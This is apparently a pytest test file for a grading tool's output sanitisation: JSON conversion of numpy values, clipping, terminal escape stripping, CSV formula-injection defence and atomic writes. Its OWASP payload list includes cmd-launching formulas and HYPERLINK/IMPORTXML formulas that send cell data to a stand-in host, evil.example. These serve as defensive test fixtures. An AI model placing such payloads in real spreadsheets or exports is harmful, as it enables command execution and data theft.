"""What crosses back to the trusted side is bounded and plain; terminals and CSV stay safe."""

from __future__ import annotations

import csv
import io
import json
import threading
from pathlib import Path

import numpy as np
import pytest
from rich.console import Console

from grader.classgrade.csv_cells import cell
from grader.core import atomic
from grader.core.errors import InputError
from grader.core.untrusted import CLIP_BYTES, clip, for_terminal, markup, plain
from grader.grading.results import CheckResult, ExerciseResult

SCALAR_TYPES = [
    np.bool_, np.int8, np.int16, np.int32, np.int64, np.uint8, np.uint16, np.uint32, np.uint64,
    np.float16, np.float32, np.float64, np.longdouble, np.complex64, np.complex128,
    np.clongdouble, np.str_, np.bytes_, np.datetime64, np.timedelta64,
]  # fmt: skip
# The OWASP CSV-injection payloads, and the same behind what a spreadsheet skips.
OWASP = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "=1+2",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    " =1+2",
    "\u3000=1+2",
    "\u200b=1+2",
    '"=1+2',
    "＝1+2",
    "＋1+2",
    "－1+2",
    "＠SUM(A1)",
    "\n\n @x",
    "\t",
    "\r",
]
ALL_PLAIN = (type(None), bool, int, float, str, list, dict)


def only_json_types(value) -> bool:
    if isinstance(value, list):
        return all(map(only_json_types, value))
    if isinstance(value, dict):
        return all(type(k) is str and only_json_types(v) for k, v in value.items())
    return type(value) in ALL_PLAIN


def one_of_each() -> list:
    values = []
    for kind in SCALAR_TYPES:
        if kind is np.datetime64:
            values += [kind("2024-01-01"), np.array(kind("2024-01-01"))]
        elif kind is np.timedelta64:
            values += [kind(3, "s"), np.array(kind(3, "s"))]
        else:
            values += [kind(1), np.array(kind(1)), np.array([kind(1), kind(0)])]
    return [*values, np.float32("nan"), np.float64("inf"), np.array(np.float16("-inf"))]


@pytest.mark.parametrize("value", one_of_each(), ids=lambda v: f"{type(v).__name__}-{v!r}"[:40])
def test_every_numpy_scalar_and_0d_array_becomes_plain_json(value):
    converted = plain({"got": value, "nested": [(value,)], 7: value})
    assert only_json_types(converted), converted
    json.dumps(converted, allow_nan=False)


def test_a_result_holding_numpy_values_is_plain_json_whatever_its_fields_hold():
    check = CheckResult("c", "C", "failed", np.int64(0), np.int32(2), message=np.str_("m"))
    check.duration = np.float32(0.5)
    result = ExerciseResult("00", "T", "f.py", [check], seed=np.uint32(3))
    result.artifacts = {"curve": np.arange(3, dtype=np.float32), "n": np.float16(1)}
    data = result.to_dict()
    assert only_json_types(data)
    assert data["score"] == 0 and data["max_score"] == 2 and data["artifacts"]["curve"] == [0, 1, 2]
    json.dumps(data, allow_nan=False)


def test_clip_keeps_8_kb_and_says_how_much_more():
    assert clip("short") == "short"
    text = clip("é" * CLIP_BYTES)
    assert len(text.encode()) < CLIP_BYTES + 40
    assert text.endswith(f"… {2 * CLIP_BYTES - 2 * (CLIP_BYTES // 2)} bytes more")
    assert clip(b"x" * 20_000).endswith("bytes more") and clip(None) == ""


def test_control_characters_never_reach_a_terminal():
    hostile = "eve\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\r\x00"
    shown = for_terminal(hostile)
    assert not any(ch in shown for ch in "\x1b\x07\x9b\u202e\r\x00")
    assert "eve" in shown and for_terminal("a\nb", one_line=True) == "a b"


@pytest.mark.parametrize("name", ["eve[/b]", "[bold]x", "a[/]b[", "\x1b[31m[red]r", "[link=x]y"])
def test_student_ids_printed_through_rich_are_literal(name):
    out = io.StringIO()
    Console(file=out, width=200, color_system=None).print(f"[muted]{markup(name)}[/]")
    assert out.getvalue().rstrip("\n") == for_terminal(name, one_line=True)


@pytest.mark.parametrize("payload", OWASP, ids=repr)
def test_csv_cells_never_start_a_formula(payload, tmp_path):
    path = tmp_path / "grades.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerow([cell(payload), 3])
    with path.open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.reader(handle))
    assert row[0].startswith("'") and row[0][1:] == payload and row[1] == "3"


@pytest.mark.parametrize("safe", ["alice", "bob smith", "dörte", "1-2", "a=b", "'quoted"])
def test_ordinary_ids_and_numbers_pass_unchanged(safe):
    assert cell(safe) == safe and cell(26) == 26 and cell(None) is None


def test_atomic_writes_replace_whole_files_and_leave_no_temporary(tmp_path):
    target = tmp_path / "grades.csv"
    target.write_text("old")
    errors: list[Exception] = []

    def writer(n: int) -> None:
        try:
            for _ in range(20):
                atomic.write_text(target, f"{n}\n" * 1000)
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=writer, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    lines = set(target.read_text().splitlines())
    assert len(lines) == 1 and len(target.read_text().splitlines()) == 1000
    assert [p.name for p in tmp_path.iterdir()] == ["grades.csv"]


def test_an_atomic_write_that_fails_leaves_no_temporary_behind(tmp_path):
    target = tmp_path / "feedback"  # a folder where the file should go: os.replace fails
    (target / "kept.md").parent.mkdir()
    (target / "kept.md").write_text("old")
    with pytest.raises(OSError):
        atomic.write_text(target, "new")
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["feedback", "kept.md"]


def test_a_second_holder_of_an_out_folder_is_refused(tmp_path):
    out = tmp_path / "grades"
    with atomic.out_lock(out):
        assert out.stat().st_mode & 0o777 == 0o700
        refused = pytest.raises(InputError, match="in use by another `dlgrade grade`")
        with refused, atomic.out_lock(Path(out)):
            pass
    with atomic.out_lock(out):  # released with its holder
        pass
